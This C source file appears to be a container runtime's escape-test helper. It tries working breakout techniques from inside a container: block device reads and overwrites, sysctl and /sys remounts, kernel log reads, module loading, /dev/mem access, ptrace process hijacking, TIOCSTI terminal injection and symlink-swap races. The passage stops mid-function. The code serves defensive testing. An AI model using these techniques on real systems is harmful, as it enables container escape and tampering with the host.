/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The attacker of t-escape.sh: run inside a container as its root, `ctescape ATTACK [ARG...]` tries
 * one way out of the container by every route it knows and prints one line, "blocked: WHAT: ERROR;
 * ..." (exit 0) or "ESCAPED: WHAT" (exit 1; 2 for bad usage). It reads, or changes only what the
 * test can check and repair from the host: the test chooses the device, the sysctl and the marker. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE 1
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <poll.h>
#include <termios.h>
#include <sys/ioctl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#if defined(__x86_64__) || defined(__i386__)
#include <sys/io.h>
#endif

/* What was tried and how it failed, in order: the "blocked:" line. */
static char report[8192];

static __attribute__((format(printf, 2, 3))) void tried(int err, const char *fmt, ...)
{
	size_t len = strlen(report);
	va_list ap;

	if (len + 2 >= sizeof(report))
		return;
	if (len > 0)
		len += (size_t)snprintf(report + len, sizeof(report) - len, "; ");
	va_start(ap, fmt);
	len += (size_t)vsnprintf(report + len, sizeof(report) - len, fmt, ap);
	va_end(ap);
	if (len < sizeof(report))
		snprintf(report + len, sizeof(report) - len, ": %s", err ? strerror(err) : "done");
}

static __attribute__((noreturn, format(printf, 1, 2))) void escaped(const char *fmt, ...)
{
	va_list ap;

	printf("ESCAPED: ");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	exit(1);
}

static int blocked(void)
{
	printf("blocked: %s\n", report[0] ? report : "nothing to try");
	return 0;
}

static __attribute__((noreturn)) void usage(void)
{
	fprintf(stderr, "usage: ctescape blockdev MAJ:MIN [write] | sysctl KEY VALUE | remount PATH |\n"
			"       sysrw [FILE] | kmsg | cgroup MARKER | module | rawio | devnodes |\n"
			"       swapper DIR N TARGET (on the host, against ctshift) |\n"
			"       serve SOCKET [UID] (on the host, for t-rundir) |\n"
			"       exchange DIR A B [A B...] (on the host, for t-setup) |\n"
			"       hijack OUT (in a container, for t-confine) |\n"
			"       tiocsti | tcooff (in a container, for t-tty) |\n"
			"       operator [-s RxC] [-w FILE | -W TEXT] [-r SECS:RxC] [-x SECS:DUR] [-i SECS:TEXT (\\NNN octal)] [-m SECS] -- CMD...\n"
			"                (on the host, for t-tty)\n");
	exit(2);
}

/* A fresh directory for a mount or a node: every attack leaves /tmp of the container only. */
static const char *scratch_dir(void)
{
	static char dir[64];

	snprintf(dir, sizeof(dir), "/tmp/ctescape.XXXXXX");
	if (!mkdtemp(dir)) {
		tried(errno, "mkdtemp /tmp/ctescape.XXXXXX");
		return NULL;
	}
	return dir;
}

/* ---- blockdev: the host's disk (the test passes a throwaway loop device) ---- */

/* Reads the first sector of a node; with write, overwrites the first 512 bytes too (unused by
 * ext4, whose superblock starts at 1024: the test sees the change in the image's checksum). */
static void try_read_node(const char *path, const char *how, bool overwrite)
{
	char buf[512];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		tried(errno, "open %s (%s)", path, how);
		return;
	}
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n != (ssize_t)sizeof(buf)) {
		tried(n < 0 ? errno : EIO, "read %s (%s)", path, how);
		return;
	}
	if (overwrite) {
		struct timespec now;

		clock_gettime(CLOCK_REALTIME, &now);
		memset(buf, 0, sizeof(buf));
		/* Unique each time: a second run must change the image's checksum again. */
		snprintf(buf, sizeof(buf), "ctescape was here at %ld.%09ld\n", (long)now.tv_sec,
			 now.tv_nsec);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && pwrite(fd, buf, sizeof(buf), 0) == (ssize_t)sizeof(buf) && fsync(fd) == 0)
			escaped("read and overwrote the first sector of block device %s (%s)", path, how);
		tried(errno, "write %s (%s)", path, how);
		if (fd >= 0)
			close(fd);
	}
	escaped("read the first sector of block device %s (%s)", path, how);
}

/* A read-only mount of a filesystem the host has mounted read-write fails with EBUSY ("would
 * change RO state"), so that one is retried read-write: it shares the host's live superblock. */
static void try_mount_node(const char *node, const char *how)
{
	const char *dir = scratch_dir();

	if (!dir)
		return;
	if (mount(node, dir, "ext4", MS_RDONLY, NULL) == 0)
		escaped("mounted block device %s read-only (%s)", node, how);
	if (errno == EBUSY && mount(node, dir, "ext4", 0, NULL) == 0)
		escaped("mounted block device %s, the host's live ext4 (%s)", node, how);
	tried(errno, "mount %s as ext4 (%s)", node, how);
	/* nodev, as privileged mode's filter wants of every mount: the node's own mount decides */
	if (mount(node, dir, "ext4", MS_NODEV, NULL) == 0)
		escaped("mounted block device %s nodev, the host's live ext4 (%s)", node, how);
	tried(errno, "mount %s as ext4, nodev (%s)", node, how);
}

/* Finds the node of dev in a directory (a devtmpfs mount: the kernel's own names). */
static int find_node(const char *dir, dev_t dev, char *ret_path, size_t size)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	struct stat st;

	if (!d)
		return -errno;
	while ((e = readdir(d))) {
		if (fstatat(dirfd(d), e->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISBLK(st.st_mode) &&
		    st.st_rdev == dev) {
			snprintf(ret_path, size, "%s/%s", dir, e->d_name);
			closedir(d);
			return 0;
		}
	}
	closedir(d);
	return -ENOENT;
}

static void blockdev_via_devtmpfs(dev_t dev, bool overwrite)
{
	const char *dir = scratch_dir();
	char node[PATH_MAX];
	int r;

	if (!dir)
		return;
	if (mount("devtmpfs", dir, "devtmpfs", 0, NULL) < 0) {
		tried(errno, "mount devtmpfs");
		/* nodev, as privileged mode's filter wants: the nodes are there, but unusable */
		if (mount("devtmpfs", dir, "devtmpfs", MS_NODEV, NULL) < 0) {
			tried(errno, "mount devtmpfs nodev");
			return;
		}
	}
	r = find_node(dir, dev, node, sizeof(node));
	if (r < 0) {
		tried(-r, "find %u:%u in a devtmpfs mount", major(dev), minor(dev));
		return;
	}
	try_read_node(node, "found in a devtmpfs mount", overwrite);
	try_mount_node(node, "found in a devtmpfs mount");
}

static void blockdev_via_mknod(dev_t dev, bool overwrite)
{
	const char *dir = scratch_dir();
	char node[PATH_MAX];

	if (!dir)
		return;
	snprintf(node, sizeof(node), "%s/blk", dir);
	if (mknod(node, S_IFBLK | 0600, dev) < 0) {
		tried(errno, "mknod b %u:%u", major(dev), minor(dev));
		return;
	}
	try_read_node(node, "made by mknod", overwrite);
	try_mount_node(node, "made by mknod");
}

/* A node the image itself holds (the test puts one at /image-blk, as an old rootfs tarball with a
 * populated /dev would): ct mounts the rootfs nodev, and the device policy refuses the open. */
static void blockdev_via_image(bool overwrite)
{
	struct stat st;

	if (stat("/image-blk", &st) < 0 || !S_ISBLK(st.st_mode))
		return;
	try_read_node("/image-blk", "a node in the rootfs image", overwrite);
	try_mount_node("/image-blk", "a node in the rootfs image");
}

static int attack_blockdev(int argc, char **argv)
{
	unsigned maj, min;
	char end;
	bool overwrite = argc == 4 && strcmp(argv[3], "write") == 0;

	if (argc < 3 || argc > 4 || (argc == 4 && !overwrite) ||
	    sscanf(argv[2], "%u:%u%c", &maj, &min, &end) != 2)
		usage();
	blockdev_via_devtmpfs(makedev(maj, min), overwrite);
	blockdev_via_mknod(makedev(maj, min), overwrite);
	blockdev_via_image(overwrite);
	return blocked();
}

/* ---- sysctl: a host-wide key behind the read-only /proc/sys ---- */

static int write_file(const char *path, const char *value)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n;
	int r = 0;

	if (fd < 0)
		return -errno;
	n = write(fd, value, strlen(value));
	if (n != (ssize_t)strlen(value))
		r = n < 0 ? -errno : -EIO;
	close(fd);
	return r;
}

/* Unmounts what lies over PATH, as often as there is something (stacked mounts). */
static void peel(const char *path)
{
	if (umount(path) == 0)
		tried(0, "umount %s", path);
	else
		tried(errno, "umount %s", path);
	for (int i = 0; i < 8; i++) {
		if (umount2(path, MNT_DETACH) < 0) {
			tried(errno, "umount2 %s MNT_DETACH", path);
			return;
		}
		tried(0, "umount2 %s MNT_DETACH", path);
	}
}

/* Clears the read-only flag: of the mount (a bind remount), and of the superblock. */
static void remount_rw(const char *path)
{
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		tried(0, "bind-remount %s rw", path);
	else
		tried(errno, "bind-remount %s rw", path);
	if (mount(NULL, path, NULL, MS_REMOUNT, NULL) == 0)
		tried(0, "remount %s rw", path);
	else
		tried(errno, "remount %s rw", path);
}

static int attack_sysctl(int argc, char **argv)
{
	char path[PATH_MAX], value[256];
	int r;

	if (argc != 4 || argv[2][0] == '/' || strstr(argv[2], ".."))
		usage();
	snprintf(path, sizeof(path), "/proc/sys/%s", argv[2]);
	snprintf(value, sizeof(value), "%s\n", argv[3]);
	remount_rw("/proc/sys");
	r = write_file(path, value);
	if (r == 0)
		escaped("wrote %s to %s after remounting /proc/sys", argv[3], path);
	tried(-r, "write %s", path);
	peel("/proc/sys");
	r = write_file(path, value);
	if (r == 0)
		escaped("wrote %s to %s after unmounting /proc/sys", argv[3], path);
	tried(-r, "write %s", path);
	return blocked();
}

/* ---- remount: a superblock of the host's (the test uses a loop-mounted ext4) ---- */

static void remount_ro_old_api(const char *path)
{
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0)
		escaped("remounted the filesystem of %s read-only (mount MS_REMOUNT)", path);
	/* EBUSY comes after the permission check: only an open file stopped it. */
	if (errno == EBUSY)
		escaped("mount MS_REMOUNT|MS_RDONLY of %s was permitted (then: %s)", path,
			strerror(errno));
	tried(errno, "mount MS_REMOUNT|MS_RDONLY %s", path);
}

static void remount_ro_new_api(const char *path)
{
	int fd = (int)syscall(SYS_fspick, AT_FDCWD, path, FSPICK_CLOEXEC);

	if (fd < 0) {
		tried(errno, "fspick %s", path);
		return;
	}
	if (syscall(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, "ro", NULL, 0) < 0) {
		tried(errno, "fsconfig %s SET_FLAG ro", path);
	} else if (syscall(SYS_fsconfig, fd, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0) == 0) {
		escaped("reconfigured the filesystem of %s read-only (fspick + fsconfig)", path);
	} else if (errno == EBUSY) {
		escaped("fsconfig RECONFIGURE of %s was permitted (then: %s)", path, strerror(errno));
	} else {
		tried(errno, "fsconfig %s CMD_RECONFIGURE", path);
	}
	close(fd);
}

static int attack_remount(int argc, char **argv)
{
	if (argc != 3)
		usage();
	remount_ro_old_api(argv[2]);
	remount_ro_new_api(argv[2]);
	return blocked();
}

/* ---- sysrw: the read-only /sys ---- */

/* Writes a sysfs file's own value back: a change of nothing, but only possible if /sys is rw. */
static int attack_sysrw(int argc, char **argv)
{
	const char *file = argc > 2 ? argv[2] : "/sys/kernel/mm/ksm/pages_to_scan";
	char value[256] = "";
	ssize_t n;
	int fd, r;

	if (argc > 3)
		usage();
	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		tried(errno, "read %s", file);
		return blocked();
	}
	n = read(fd, value, sizeof(value) - 1);
	close(fd);
	if (n <= 0) {
		tried(n < 0 ? errno : EIO, "read %s", file);
		return blocked();
	}
	value[n] = '\0';
	r = write_file(file, value);
	if (r == 0)
		escaped("wrote %s while /sys was mounted as it is", file);
	tried(-r, "write %s", file);
	remount_rw("/sys");
	r = write_file(file, value);
	if (r == 0)
		escaped("wrote %s after remounting /sys", file);
	tried(-r, "write %s", file);
	peel("/sys");
	r = write_file(file, value);
	if (r == 0)
		escaped("wrote %s after unmounting /sys", file);
	tried(-r, "write %s", file);
	return blocked();
}

/* ---- kmsg: the host's kernel log ---- */

static void read_kmsg(const char *path, const char *how)
{
	char buf[8192];
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n;

	if (fd < 0) {
		tried(errno, "open %s (%s)", path, how);
		return;
	}
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n > 0)
		escaped("read %zd bytes of the kernel log from %s (%s)", n, path, how);
	tried(n < 0 ? errno : ENODATA, "read %s (%s)", path, how);
}

static int attack_kmsg(void)
{
	static char buf[1 << 20];
	const char *dir;
	char node[PATH_MAX];
	int n = klogctl(10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0);

	if (n < 0)
		tried(errno, "syslog SIZE_BUFFER");
	n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof(buf));
	if (n >= 0)
		escaped("read %d bytes of the kernel log with syslog(READ_ALL)", n);
	tried(errno, "syslog READ_ALL");
	read_kmsg("/dev/kmsg", "the container's /dev");
	dir = scratch_dir();
	if (dir) {
		snprintf(node, sizeof(node), "%s/kmsg", dir);
		if (mknod(node, S_IFCHR | 0600, makedev(1, 11)) == 0)
			read_kmsg(node, "made by mknod c 1:11");
		else
			tried(errno, "mknod c 1:11");
	}
	/* Not read: a read of /proc/kmsg consumes the host's log. The open is the permission check. */
	int fd = open("/proc/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0)
		escaped("opened /proc/kmsg, the host's kernel log (not read: that would consume it)");
	tried(errno, "open /proc/kmsg");
	return blocked();
}

/* ---- cgroup: the host's cgroup tree ---- */

static void check_marker(const char *dir, const char *marker, const char *how)
{
	char path[PATH_MAX];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s", dir, marker);
	if (stat(path, &st) == 0)
		escaped("the host's cgroup root is visible: %s is in %s", marker, how);
	tried(errno, "find %s in %s", marker, how);
}

static int attack_cgroup(int argc, char **argv)
{
	const char *dir;

	if (argc != 3 || strchr(argv[2], '/') || strcmp(argv[2], "..") == 0)
		usage();
	check_marker("/sys/fs/cgroup", argv[2], "/sys/fs/cgroup");
	dir = scratch_dir();
	if (dir && mount("cgroup2", dir, "cgroup2", 0, NULL) < 0)
		tried(errno, "mount cgroup2");
	else if (dir)
		check_marker(dir, argv[2], "a fresh cgroup2 mount");
	return blocked();
}

/* ---- module: loading kernel code ---- */

/* EPERM (no CAP_SYS_MODULE, or a filter) or ENOSYS (no module support, or a filter) refuse; any
 * other error came after the permission check, from the bogus module. */
static void module_result(const char *what, long r)
{
	if (r == 0)
		escaped("%s loaded a module", what);
	if (errno != EPERM && errno != ENOSYS)
		escaped("%s passed the permission check (then: %s)", what, strerror(errno));
	tried(errno, "%s", what);
}

static int attack_module(void)
{
	static const char image[64];
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		tried(errno, "open /dev/null");
	else
		module_result("finit_module", syscall(SYS_finit_module, fd, "", 0));
	module_result("init_module", syscall(SYS_init_module, image, sizeof(image), ""));
	return blocked();
}

/* ---- rawio: I/O ports and physical memory ---- */

static void rawio_ports(void)
{
#if defined(__x86_64__) || defined(__i386__)
	if (iopl(3) == 0) {
		iopl(0);
		escaped("iopl(3)");
	}
	tried(errno, "iopl 3");
	if (ioperm(0x80, 1, 1) == 0) {
		ioperm(0x80, 1, 0);
		escaped("ioperm(0x80)");
	}
	tried(errno, "ioperm 0x80");
#endif
}

/* Only opened, never read: opening is where the kernel checks CAP_SYS_RAWIO. */
static void open_mem(const char *path, const char *how)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		escaped("opened %s (%s)", path, how);
	tried(errno, "open %s (%s)", path, how);
}

static int attack_rawio(void)
{
	const char *dir = scratch_dir();
	char node[PATH_MAX];

	rawio_ports();
	open_mem("/dev/mem", "the container's /dev");
	open_mem("/dev/port", "the container's /dev");
	for (unsigned m = 1; dir && m <= 4; m += 3) {
		snprintf(node, sizeof(node), "%s/mem%u", dir, m);
		if (mknod(node, S_IFCHR | 0600, makedev(1, m)) < 0)
			tried(errno, "mknod c 1:%u", m);
		else
			open_mem(node, m == 1 ? "mknod c 1:1, mem" : "mknod c 1:4, port");
	}
	return blocked();
}

/* ---- devnodes: /dev holds the container's own nodes, not the host's ---- */

/* A node on another filesystem than /dev and its devpts is a bind mount from elsewhere: the host's
 * devtmpfs (only a terminal's pty, devpts majors 136-143, may be one: /dev/console with a terminal).
 * Each node is chmod'ed 0604, a mode no host gives a node, as a guest's boot chmods /dev/console:
 * on a bind mount the host's node changes, which the test sees from outside. */
static bool foreign_node(const struct stat *st, dev_t dev, dev_t pts)
{
	unsigned maj = major(st->st_rdev);

	return st->st_dev != dev && st->st_dev != pts && (maj < 136 || maj > 143);
}

static void chmod_node(int dir, const char *name, const struct stat *st, dev_t dev, dev_t pts)
{
	bool foreign = foreign_node(st, dev, pts);

	if (fchmodat(dir, name, 0604, 0) == 0 && foreign)
		escaped("changed the mode of /dev/%s (%u:%u), a bind mount of a node from another "
			"filesystem", name, major(st->st_rdev), minor(st->st_rdev));
	if (foreign)
		tried(errno, "chmod /dev/%s (%u:%u), a bind mount from another filesystem", name,
		      major(st->st_rdev), minor(st->st_rdev));
}

static int attack_devnodes(void)
{
	struct stat dev, pts = { 0 }, st;
	struct dirent *e;
	DIR *d = opendir("/dev");

	if (!d || fstat(dirfd(d), &dev) < 0) {
		tried(errno, "open /dev");
		return blocked();
	}
	stat("/dev/pts", &pts);
	while ((e = readdir(d))) {
		if (fstatat(dirfd(d), e->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 &&
		    (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)))
			chmod_node(dirfd(d), e->d_name, &st, dev.st_dev, pts.st_dev);
	}
	closedir(d);
	if (!report[0])
		tried(0, "every node of /dev is on its own filesystem");
	return blocked();
}

/* `swapper DIR N TARGET` (run on the host, as an unprivileged user, against ctshift): N set-uid
 * files fI and N symlinks lI -> TARGET in DIR, exchanged with each other in a loop until killed,
 * so that a tool resolving "fI" by path hits TARGET about half the time. Prints "ready" once the
 * files exist. */
static int swapper(int argc, char **argv)
{
	char a[32], b[32];
	long n;

	if (argc != 5 || chdir(argv[2]) < 0 || (n = strtol(argv[3], NULL, 10)) <= 0 || n > 100000)
		usage();
	for (long i = 0; i < n; i++) {
		snprintf(a, sizeof(a), "f%ld", i);
		snprintf(b, sizeof(b), "l%ld", i);
		close(open(a, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
		if (chmod(a, 04777) < 0 || symlink(argv[4], b) < 0)
			return 2;
	}
	puts("ready");
	for (;;)
		for (long i = 0; i < n; i++) {
			snprintf(a, sizeof(a), "f%ld", i);
			snprintf(b, sizeof(b), "l%ld", i);
			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
		}
}

/* `exchange DIR A B [A B...]` (run on the host, for t-setup): swaps each pair of entries of
 * DIR (a directory and a symlink out of the rootfs, say) with renameat2 RENAME_EXCHANGE, round
 * after round until killed, so that setup resolving A meets either. Prints "ready" first. */
static int exchange(int argc, char **argv)
{
	int dir = argc >= 5 && argc % 2 == 1 ? open(argv[2], O_PATH | O_DIRECTORY) : -1;

	if (dir < 0)
		usage();
	puts("ready");
	fflush(stdout);
	for (;;)
		for (int i = 3; i + 1 < argc; i += 2)
			if (syscall(SYS_renameat2, dir, argv[i], dir, argv[i + 1], RENAME_EXCHANGE) < 0)
				return 2;
}

/* ---- hijack: a process ct puts into the container, caught as it appears ---- */

static long last_pid(void)
{
	char buf[32] = "";
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "re");

	if (!f || !fgets(buf, sizeof(buf), f))
		buf[0] = '\0';
	if (f)
		fclose(f);
	return strtol(buf, NULL, 10);
}

static void read_comm(long pid, char *buf, size_t size)
{
	char path[64];
	int fd, n;

	snprintf(path, sizeof(path), "/proc/%ld/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : (int)read(fd, buf, size - 1);
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n - 1 : 0] = '\0'; /* drop the newline */
	if (n <= 0)
		snprintf(buf, size, "?");
}

/* Everything of the process's open files past stdio that its /proc directory gives away. */
static void list_fds(FILE *out, long pid)
{
	char path[64], link[PATH_MAX];
	struct dirent *e;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%ld/fd", pid);
	d = opendir(path);
	if (!d) {
		fprintf(out, " fds=%s", strerror(errno));
		return;
	}
	while ((e = readdir(d)) != NULL) {
		ssize_t n;
		char p[PATH_MAX];

		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
			continue;
		snprintf(p, sizeof(p), "%s/%s", path, e->d_name);
		n = readlink(p, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = '\0';
		fprintf(out, " fd%s=%s", e->d_name, link);
	}
	closedir(d);
}

/* The confinement fields of /proc/PID/status: " CapEff=... Seccomp=... NoNewPrivs=...". */
static void print_status(FILE *out, long pid)
{
	char path[64], line[256];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%ld/status", pid);
	f = fopen(path, "re");
	if (!f) {
		fprintf(out, " status=%s", strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		char key[32], value[64];

		if (sscanf(line, "%31[^:]:%*[ \t]%63s", key, value) == 2 &&
		    (!strcmp(key, "CapEff") || !strcmp(key, "Seccomp") || !strcmp(key, "NoNewPrivs")))
			fprintf(out, " %s=%s", key, value);
	}
	fclose(f);
}

/* Spins PTRACE_SEIZE on pid until it exists; returns 0 or the errno once it does (or -1 if it
 * came and went between two tries). */
static int seize(long pid)
{
	unsigned spins = 0;

	while (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		if (errno != ESRCH)
			return errno;
		if (++spins % 4096 == 0 && last_pid() >= pid && kill((pid_t)pid, 0) < 0)
			return -1;
	}
	return 0;
}

/* One line of hijack's: what the process at pid showed. Not held (err != 0), it may have exec'd
 * while it was looked at: then what was seen may be the command's, and the line says so with
 * "comm=BEFORE->AFTER". */
static void report_process(FILE *out, long pid, int err)
{
	char comm[32], after[32], root[64], link[PATH_MAX], *line = NULL;
	size_t line_size = 0;
	FILE *l = open_memstream(&line, &line_size);

	if (!l) {
		fprintf(out, "pid=%ld open_memstream: %s\n", pid, strerror(errno));
		return;
	}
	read_comm(pid, comm, sizeof(comm));
	snprintf(root, sizeof(root), "/proc/%ld/root", pid);
	ssize_t n = readlink(root, link, sizeof(link) - 1);
	fprintf(l, " seize=%s root=%s", err ? strerror(err) : "ok", n < 0 ? strerror(errno) : "ok");
	list_fds(l, pid);
	print_status(l, pid);
	fclose(l);
	read_comm(pid, after, sizeof(after));
	if (strcmp(after, comm) != 0)
		fprintf(out, "pid=%ld comm=%s->%s%s\n", pid, comm, after, line);
	else
		fprintf(out, "pid=%ld comm=%s%s\n", pid, comm, line);
	free(line);
}

/* `hijack OUT` (in a container, for t-confine): spins PTRACE_SEIZE on the pid the namespace
 * hands out next, so that it holds the next process the moment it exists (a helper ct forks into
 * the container, before it execs), stops it there and looks into it. One line per process to
 * OUT: "pid=N comm=C seize=ok|ERR root=ok|ERR [fdN=TARGET...] [CapEff=.. Seccomp=..
 * NoNewPrivs=..]", where C is "BEFORE->AFTER" if the comm changed (an exec) while it looked.
 * Runs until killed. */
static int hijack(int argc, char **argv)
{
	FILE *out = argc == 3 ? fopen(argv[2], "we") : NULL;

	if (!out)
		usage();
	setvbuf(out, NULL, _IOLBF, 0);
	for (long next = last_pid() + 1;; next++) {
		int st, err = seize(next);

		if (err < 0)
			continue;
		if (err == 0) { /* hold it where it is */
			ptrace(PTRACE_INTERRUPT, next, 0, 0);
			waitpid((pid_t)next, &st, __WALL);
		}
		report_process(out, next, err);
		if (err == 0)
			ptrace(PTRACE_DETACH, next, 0, 0);
		if (last_pid() > next)
			next = last_pid(); /* others came meanwhile: wait for the next one */
	}
}

/* ---- the operator's terminal (t-tty) ---- */

/* `tiocsti` (in a container): pushes a command into the input of every terminal it can reach
 * (stdio, /dev/tty, /dev/console), as a guest would to make the operator's shell run it once
 * ctstart exits. One line per try. */
static int tiocsti(void)
{
	static const char cmd[] = "echo INJECTED\n";
	const char *paths[] = { "/dev/tty", "/dev/console" };
	int fds[5] = { 0, 1, 2, -1, -1 };

	for (int i = 0; i < 2; i++)
		fds[3 + i] = open(paths[i], O_RDWR | O_NOCTTY | O_CLOEXEC);
	for (int i = 0; i < 5; i++) {
		int ok = 1;
		for (const char *c = cmd; *c && ok; c++)
			ok = fds[i] >= 0 && ioctl(fds[i], TIOCSTI, c) == 0;
		printf("tiocsti %s: %s\n", i < 3 ? (const char *[]){ "stdin", "stdout", "stderr" }[i]
						: paths[i - 3],
		       fds[i] < 0 ? "cannot open" : ok ? "pushed" : strerror(errno));
	}
	return 0;
}

/* `tcooff` (in a container): stops output on its terminal, then writes to it without end. */
static int tcooff(void)
{
	printf("stopping output\n");
	fflush(stdout);
	if (tcflow(STDOUT_FILENO, TCOOFF) < 0)
		printf("tcflow: %s\n", strerror(errno));
	for (;;)
		if (printf("flood flood flood flood flood flood flood flood flood flood flood\n") < 0)
			return 1;
}

struct timed {
	double at;
	char what;      /* r: resize, x: stop output, X: restart it, i: input, m: sample termios */
	struct winsize ws;
	const char *text;
	bool done;
};

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void print_termios(int slave, const char *when)
{
	struct termios t;

	if (tcgetattr(slave, &t) == 0)
		printf("\n[termios %s: icanon=%d echo=%d]\n", when, !!(t.c_lflag & ICANON),
		       !!(t.c_lflag & ECHO));
	fflush(stdout);
}

static void run_timed(struct timed *ev, size_t n, double t0, int master, int slave)
{
	for (size_t i = 0; i < n; i++) {
		if (ev[i].done || now_s() - t0 < ev[i].at)
			continue;
		ev[i].done = true;
		if (ev[i].what == 'r')
			ioctl(master, TIOCSWINSZ, &ev[i].ws);
		else if (ev[i].what == 'x' || ev[i].what == 'X')
			tcflow(slave, ev[i].what == 'x' ? TCOOFF : TCOON);
		else if (ev[i].what == 'i')
			(void)!write(master, ev[i].text, strlen(ev[i].text));
		else if (ev[i].what == 'm')
			print_termios(slave, "during");
	}
}

/* When the events' clock starts: at once, once a file exists, or once the terminal showed a
 * text. */
struct start_at {
	const char *file, *text;
	char seen[8192]; /* what the terminal showed so far, while the text is awaited */
	size_t len;
};

static bool started(struct start_at *s, const char *buf, size_t n)
{
	if (s->file)
		return access(s->file, F_OK) == 0;
	if (!s->text)
		return true;
	if (n > sizeof(s->seen) - 1 - s->len) { /* keep the newest half */
		memmove(s->seen, s->seen + s->len / 2, s->len - s->len / 2);
		s->len -= s->len / 2;
	}
	n = n < sizeof(s->seen) - 1 - s->len ? n : sizeof(s->seen) - 1 - s->len;
	memcpy(s->seen + s->len, buf, n);
	s->len += n;
	s->seen[s->len] = '\0';
	return strstr(s->seen, s->text) != NULL;
}

/* Copies what the pty shows to stdout until the child is gone and the pty is drained. */
static int relay_until_exit(int master, int slave, pid_t pid, struct timed *ev, size_t n,
			    struct start_at *start)
{
	double t0 = -1;
	int st = 0;
	bool exited = false;
	char buf[4096];

	for (;;) {
		struct pollfd p = { .fd = master, .events = POLLIN };
		int k = poll(&p, 1, 50);
		ssize_t r = k > 0 ? read(master, buf, sizeof(buf)) : 0;

		if (r > 0)
			(void)!write(STDOUT_FILENO, buf, (size_t)r);
		if (t0 < 0 && started(start, buf, r > 0 ? (size_t)r : 0))
			t0 = now_s();
		if (t0 >= 0)
			run_timed(ev, n, t0, master, slave);
		/* Gone now: what it wrote since that poll is read by the next one, which must find
		 * the pty quiet before the relay ends (its last line was lost otherwise). */
		if (!exited && waitpid(pid, &st, WNOHANG) == pid) {
			exited = true;
			continue;
		}
		if (exited && k == 0)
			break;
	}
	print_termios(slave, "after");
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* TEXT with \NNN octal escapes ("\\001q": Ctrl-a q) decoded, in place. */
static char *unescape_octal(char *text)
{
	char *w = text;

	for (char *r = text; *r; r++) {
		if (r[0] == '\\' && r[1] >= '0' && r[1] <= '7') {
			*w++ = (char)strtol(r + 1, &r, 8);
			r--;
		} else {
			*w++ = *r;
		}
	}
	*w = '\0';
	return text;
}

static int parse_size(const char *s, struct winsize *ws)
{
	unsigned r, c;

	if (sscanf(s, "%ux%u", &r, &c) != 2)
		return -1;
	*ws = (struct winsize){ .ws_row = (unsigned short)r, .ws_col = (unsigned short)c };
	return 0;
}

/* `operator [-s RxC] [-w FILE | -W TEXT] [-r SECS:RxC] [-x SECS:DUR] [-i SECS:TEXT] [-m SECS]
 * -- CMD...` (on the host, for t-tty and t-console): the operator's terminal, a pty whose
 * session CMD (a shell running ctstart, say) leads. Shows what the terminal shows on stdout; at
 * the given times (from its start, from when FILE appears: a container that is up, or from when
 * the terminal first showed TEXT) resizes it, stops its output for
 * DUR seconds (as a stalled terminal), types TEXT ("\\001" for Ctrl-a), or samples its mode;
 * prints its mode once CMD is gone ("[termios after: icanon=1 echo=1]"). Exits with CMD's
 * status. */
static int operator_(int argc, char **argv)
{
	struct timed ev[16];
	size_t n = 0;
	struct winsize ws = { .ws_row = 24, .ws_col = 80 };
	static struct start_at start;
	int i = 2, master, slave;
	pid_t pid;

	for (; i < argc && strcmp(argv[i], "--") != 0 && n < 15; i += 2) {
		char *val = i + 1 < argc ? argv[i + 1] : NULL, *colon = val ? strchr(val, ':') : NULL;
		if (!val || (strcmp(argv[i], "-s") && strcmp(argv[i], "-m") && strcmp(argv[i], "-w") &&
			     strcmp(argv[i], "-W") && !colon))
			usage();
		if (!strcmp(argv[i], "-w") || !strcmp(argv[i], "-W")) {
